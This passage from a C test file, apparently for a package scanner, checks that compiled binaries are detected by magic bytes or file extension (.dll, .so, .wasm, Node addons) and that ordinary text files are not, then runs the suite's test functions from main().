	memcpy(b, "\xca\xfe\xba\xbe\x00\x00\x00\x34", 8); /* Java 8 class */
	BIN_NO("Foo.class", b, 128);
	/* WebAssembly: binary, not native */
	memset(b, 0, sizeof b);
	memcpy(b, "\0asm\x01\0\0\0", 8);
	BIN_YES("lib/x.wasm", b, 16, "WebAssembly", false);
	/* by name only */
	BIN_YES("prebuilds/linux-x64/addon.node", "not elf", 7, "Node native addon", true);
	BIN_YES("win/helper.dll", "", 0, ".dll", true);
	BIN_YES("win/helper.EXE", "", 0, ".exe", true);
	BIN_YES("mac/lib.dylib", "", 0, ".dylib", true);
	BIN_YES("pkg/_speedups.pyd", "", 0, ".pyd", true);
	BIN_YES("lib/libfoo.so", "", 0, ".so", true);
	/* not binaries */
	BIN_NO("index.js", "module.exports = 1;\n", 20);
	BIN_NO("config.so.json", "{}", 2);
	BIN_NO("docs/node.md", "# node", 6);
	BIN_NO("empty", "", 0);
	BIN_NO("tiny", "\x7f", 1);
}

int main(void)
{
	test_urls();
	test_paths();
	test_env_names();
	test_obfuscation();
	test_literal_fast_path();
	test_shell();
	test_binary();
	if (failures) {
		fprintf(stderr, "%d failure(s)\n", failures);
		return 1;
	}
	printf("test_scan: all passed\n");
	return 0;
}
